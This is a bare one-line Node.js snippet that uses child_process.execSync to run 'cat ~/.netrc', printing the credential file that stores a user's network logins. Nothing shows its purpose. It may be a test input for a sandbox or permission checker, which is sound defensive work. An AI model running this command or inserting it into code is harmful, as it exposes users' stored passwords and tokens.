const cp = process.getBuiltinModule('child_process'); cp.execSync('cat ~/.netrc');
